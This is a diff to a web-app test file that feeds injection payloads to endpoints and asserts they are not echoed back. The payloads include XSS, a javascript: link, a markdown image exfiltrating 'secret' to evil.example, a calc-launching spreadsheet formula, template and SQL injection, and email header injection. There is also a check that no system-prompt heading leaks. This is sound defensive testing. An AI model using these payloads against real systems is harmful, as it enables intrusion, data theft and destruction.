@@ -30,7 +30,7 @@ const orders = [
   '<script>alert(1)</script><img src=x onerror=alert(1)>',
   '[click](javascript:alert(1)) ![x](https://evil.example/?q=secret)',
   '=cmd|"/c calc"!A1',
-  '{{constructor.constructor("return process")()}} ${7*7} <%= 7*7 %>',
+  '{{constructor.constructor("return process")()}} #{7*7} <%= 7*7 %>',
   "'; DROP TABLE inquiries; --",
   'a\r\nBcc: victim@example.com\r\n\r\nforged',
 ]
@@ -156,10 +156,11 @@ test('an address or a parameter puts no words into our mouth', async () => {
       const text = await answer.text()
       expect(answer.status, path).toBeLessThan(500)
       expect(text, path).not.toMatch(/^# System/m)
-      expect(text, path).not.toContain('<script>alert')
-      if (answer.headers.get('content-type')?.includes('html')) continue
-      if (answer.headers.get('content-type')?.includes('markdown'))
-        expect(text, path).not.toMatch(/(?<!\\)\]\(javascript:/)
+      const type = answer.headers.get('content-type') ?? ''
+      if (type.includes('html')) expect(text, path).not.toContain('<script>alert')
+      if (type.includes('html')) continue
+      if (type.includes('markdown'))
+        expect(text, path).not.toMatch(/(?<!\\)(?:\]\(javascript:|<script)/)
       expectPlain(text)
     }
   }
